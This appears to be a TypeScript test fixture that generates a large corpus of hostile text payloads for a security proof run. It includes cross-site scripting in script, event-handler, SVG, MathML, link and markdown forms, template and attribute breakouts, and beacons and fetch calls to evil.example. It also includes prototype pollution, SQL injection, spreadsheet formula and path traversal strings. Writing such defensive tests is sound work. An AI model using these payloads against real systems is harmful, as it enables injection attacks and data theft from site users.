// Texts that would do something if a page took them for more than text. Each carries its number, and if it ran, it
// would set window.__hit, open a dialog or call another server.

/** What a payload runs, and where it leads: distinct by its number. */
interface Deed {
  readonly number: number;
  readonly code: string;
  readonly url: string;
}

type Carrier = (deed: Deed) => string;

const SCRIPTS: readonly Carrier[] = [
  ({ code }) => `<script>${code}</script>`,
  ({ url }) => `<script src="${url}"></script>`,
  ({ code }) => `<SCRIPT/x>${code}</SCRIPT >`,
  ({ code }) => `<scr<script>ipt>${code}</scr</script>ipt>`,
  ({ code }) => `<script type="module">${code}</script>`,
  ({ url }) => `<script type="module">import "${url}"</script>`,
  ({ code }) => `</script><script>${code}</script>`,
  ({ code }) => `]]><script>${code}</script>`,
  ({ code }) => `--><script>${code}</script><!--`,
  ({ code }) => `<!--><script>${code}</script>-->`,
  ({ code }) => `<![CDATA[<script>${code}</script>]]>`,
  ({ code }) => `</title></textarea></style><script>${code}</script>`,
  ({ code }) => `<noscript><p title="</noscript><script>${code}</script>">`,
  ({ code }) => `<template><script>${code}</script></template>`,
  ({ code }) => `\u2028<script>${code}</script>\u2029`,
];

const HANDLERS: readonly Carrier[] = [
  ({ code }) => `<img src=x onerror=${code}>`,
  ({ code }) => `<img src=x onerror="${code}">`,
  ({ code }) => `<img/src/onerror=${code}>`,
  ({ code }) => `<IMG """><img src=x oNeRrOr='${code}'>`,
  ({ code }) => `<body onload=${code}>`,
  ({ code }) => `<input autofocus onfocus=${code}>`,
  ({ code }) => `<select autofocus onfocus=${code}>`,
  ({ code }) => `<textarea autofocus onfocus=${code}>`,
  ({ code }) => `<details open ontoggle=${code}>`,
  ({ code }) => `<video src=x onerror=${code}>`,
  ({ code }) => `<audio><source src=x onerror=${code}>`,
  ({ code }) => `<marquee onstart=${code}>`,
  ({ code }) => `<style>@keyframes k{}</style><p style="animation:k" onanimationstart=${code}>`,
  ({ code }) => `<div onpointerrawupdate=${code} style="position:fixed;inset:0">`,
  ({ code }) => `<button popovertarget=x onclick=${code}>go</button>`,
  ({ code }) => `<x contenteditable onfocus=${code} tabindex=0 id=x>`,
  ({ code }) => `<object data=x onerror=${code}>`,
];

const SVG_AND_MATH: readonly Carrier[] = [
  ({ code }) => `<svg onload=${code}>`,
  ({ code }) => `<svg><script>${code}</script></svg>`,
  ({ url }) => `<svg><script href="${url}"/></svg>`,
  ({ url }) => `<svg><image href="${url}"/></svg>`,
  ({ url }) => `<svg><use href="${url}#x"/></svg>`,
  ({ code }) =>
    `<svg><animate onbegin=${code} attributeName=x dur=1s><set attributeName=onmouseover to=x>`,
  ({ code }) => `<svg><a xlink:href="javascript:${code}"><text x=1 y=20>x</text></a></svg>`,
  ({ code }) => `<svg><foreignObject><body onload=${code}></foreignObject></svg>`,
  ({ code }) => `<math><mtext><table><mglyph><style><img src=x onerror=${code}>`,
  ({ code }) => `<math href="javascript:${code}">x</math>`,
  ({ code }) =>
    `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${code}></style>`,
  ({ code }) => `<svg></p><style><a id="</style><img src=x onerror=${code}>">`,
  ({ code }) => `<noembed><img title="</noembed><img src=x onerror=${code}>"></noembed>`,
];

const LINKS: readonly Carrier[] = [
  ({ code }) => `javascript:${code}`,
  ({ code }) => `JaVaScRiPt:${code}`,
  ({ code }) => `\u0001javascript:${code}`,
  ({ code }) => `java\tscript:${code}`,
  ({ code }) => `javascript&colon;${code}`,
  ({ code }) => `javascript://example.org/%0a${code}`,
  ({ code }) => `data:text/html,<script>${code}</script>`,
  ({ code }) => `data:text/html;base64,${base64(`<script>${code}</script>`)}`,
  ({ code }) => `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${code}'/>`,
  ({ code }) => `vbscript:${code}`,
  ({ url }) => `view-source:${url}`,
  ({ code }) => `blob:${code}`,
  ({ number }) => `//evil.example/${number}`,
  ({ number }) => `\\\\evil.example\\${number}`,
  ({ number }) => `https://example.org@evil.example/${number}`,
  ({ code }) => `<a href="javascript:${code}">click</a>`,
  ({ code }) => `<a href="jav&#x09;ascript:${code}">click</a>`,
  ({ code }) => `<a href="&#106;avascript:${code}">click</a>`,
];

const MARKDOWN: readonly Carrier[] = [
  ({ code }) => `[click](javascript:${code})`,
  ({ code }) => `[click](<javascript:${code}>)`,
  ({ code }) => `[click](data:text/html,<script>${code}</script>)`,
  ({ code }) => `[click](&#x6A;avascript:${code})`,
  ({ code }) => `<javascript:${code}>`,
  ({ code, number }) => `[click][r${number}]\n\n[r${number}]: javascript:${code}`,
  ({ url }) => `![pixel](${url}.png)`,
  ({ url, number }) => `![pixel][p${number}]\n\n[p${number}]: ${url}.png`,
  ({ code }) => `![x" onerror="${code}](x)`,
  ({ code, url }) => `[x](${url} "' onmouseover='${code}")`,
  ({ code }) => `<div>\n<img src=x onerror=${code}>\n</div>`,
  ({ code }) => `\`\`\`"><img src=x onerror=${code}>\nx\n\`\`\``,
  ({ code }) => `# <img src=x onerror=${code}> heading`,
  ({ code }) => `| a |\n|---|\n| <svg onload=${code}> |`,
  ({ code }) => `- [x] <iframe srcdoc="<script>${code}</script>">`,
  ({ code, number }) => `note[^${number}]\n\n[^${number}]: <script>${code}</script>`,
  ({ code }) => `[src:"><script>${code}</script>]`,
  ({ code }) => `[src](javascript:${code})`,
];

const BREAKOUTS: readonly Carrier[] = [
  ({ code }) => `"><img src=x onerror=${code}>`,
  ({ code }) => `'><svg onload=${code}>`,
  ({ code }) => `" autofocus onfocus="${code}" x="`,
  ({ code }) => `' onmouseover='${code}' x='`,
  ({ code }) => `\`onload=${code} x=\``,
  ({ code }) => `\${${code}}`,
  ({ code }) => `{{constructor.constructor("${code}")()}}`,
  ({ code }) => `<%= ${code} %>`,
  ({ code }) => `#{${code}}`,
  ({ code }) => `";${code};//`,
  ({ code }) => `';${code};//`,
  ({ code }) => `\\";${code};//`,
  ({ code }) => `*/${code}/*`,
  ({ code }) => `&lt;script&gt;${code}&lt;/script&gt;`,
  ({ code }) => `&amp;lt;img src=x onerror=${code}&amp;gt;`,
  ({ code }) => `&#60;img src=x onerror=${code}&#62;`,
  ({ code }) => `%3Cscript%3E${code}%3C/script%3E`,
  ({ code }) => `\\u003cscript\\u003e${code}\\u003c/script\\u003e`,
  ({ code }) => `＜script＞${code}＜/script＞`,
  ({ code }) => `\r\nContent-Type: text/html\r\n\r\n<script>${code}</script>`,
];

const LOADED: readonly Carrier[] = [
  ({ url }) => `<img src="${url}">`,
  ({ url }) => `<img srcset="${url} 1x, ${url}/2 2x">`,
  ({ url }) => `<picture><source srcset="${url}"><img></picture>`,
  ({ url }) => `<iframe src="${url}"></iframe>`,
  ({ code }) => `<iframe srcdoc="<script>parent.${code}</script>"></iframe>`,
  ({ code }) => `<iframe src="javascript:parent.${code}"></iframe>`,
  ({ url }) => `<object data="${url}"></object>`,
  ({ url }) => `<embed src="${url}">`,
  ({ url }) => `<base href="${url}/">`,
  ({ url }) => `<meta http-equiv="refresh" content="0;url=${url}">`,
  ({ url }) => `<link rel="stylesheet" href="${url}.css">`,
  ({ url }) => `<link rel="preload" as="image" href="${url}">`,
  ({ url }) => `<link rel="dns-prefetch" href="${url}">`,
  ({ url }) => `<form action="${url}"><input name=x><button>send</button></form>`,
  ({ url, number }) => `<form id=f${number}></form><button form=f${number} formaction="${url}">go`,
  ({ url }) => `<style>@import "${url}.css";</style>`,
  ({ url }) => `<style>*{background:url("${url}")}</style>`,
  ({ url }) => `<p style="background:url(${url})">x</p>`,
  ({ url }) => `url(${url})`,
  ({ url }) => `expression(${url})`,
  ({ url }) => `<table background="${url}"><td>x`,
  ({ url }) => `<video poster="${url}"></video>`,
  ({ url }) => `<a ping="${url}" href="/">x</a>`,
  ({ url }) => `<portal src="${url}"></portal>`,
];

const NAMES: readonly Carrier[] = [
  ({ number }) => `__proto__ ${number}`,
  ({ number }) => `{"__proto__":{"__hit":${number}}}`,
  ({ number }) => `{"constructor":{"prototype":{"__hit":${number}}}}`,
  ({ number }) => `constructor.prototype.__hit=${number}`,
  ({ number }) => `toString ${number}`,
  ({ code }) => `\u202e<img src=x onerror=${code}>\u202c`,
  ({ code }) => `<\u200bscript>${code}</\u200bscript>`,
  ({ code }) => `\ufeff\u2066<svg onload=${code}>\u2069`,
  ({ number }) => `\u202etxt.exe ${number} \u05d0\u0627`,
  ({ number }) => `${number} z\u0335\u0353\u0349a\u0334\u0316l\u0336g\u0337o`,
  ({ number }) => `'; DROP TABLE research_plan; -- ${number}`,
  ({ number }) => `=HYPERLINK("https://evil.example/${number}")`,
  ({ number }) => `../../../../etc/passwd?${number}`,
  ({ number }) => `%00%0d%0a%2e%2e%2f ${number}`,
];

const CARRIERS = [
  ...SCRIPTS,
  ...HANDLERS,
  ...SVG_AND_MATH,
  ...LINKS,
  ...MARKDOWN,
  ...BREAKOUTS,
  ...LOADED,
  ...NAMES,
];
const DEEDS: readonly ((number: number) => string)[] = [
  (number) => `__hit=${number}`,
  (number) => `alert(${number})`,
  (number) => `fetch("//evil.example/${number}")`,
];

/** Whether this is the long form, which `npm run proof -- hostile-text` runs. */
export const IS_WHOLE = process.env.TROVELLA_PROOF === "hostile-text";

/** Every way in with every deed, in the short form with the first; no two are alike, and each fits where an id fits. */
export const PAYLOADS: readonly string[] = DEEDS.slice(0, IS_WHOLE ? 3 : 1).flatMap(
  (codeOf, deed) =>
    CARRIERS.map((carrier, index) => {
      const number = deed * CARRIERS.length + index + 1;
      return carrier({ number, code: codeOf(number), url: `https://evil.example/${number}` });
    }),
);

/** No text at all for PostgreSQL: these must be refused. */
export const UNSTORABLE = [
  "\0<script>alert(1)</script>",
  "\ud800<img src=x onerror=alert(2)>",
  "<svg onload=alert(3)>\udfff",
];

/** All payloads, in as many pieces as a field of this length needs. */
export function allWithin(length: number, separator = "\n"): string[] {
  const pieces: string[] = [];
  for (const payload of PAYLOADS) {
    const last = pieces.at(-1);
    const longer = `${last}${separator}${payload}`;
    if (last === undefined || longer.length > length) pieces.push(payload);
    else pieces[pieces.length - 1] = longer;
  }
  return pieces;
}

function base64(text: string): string {
  return Buffer.from(text).toString("base64");
}
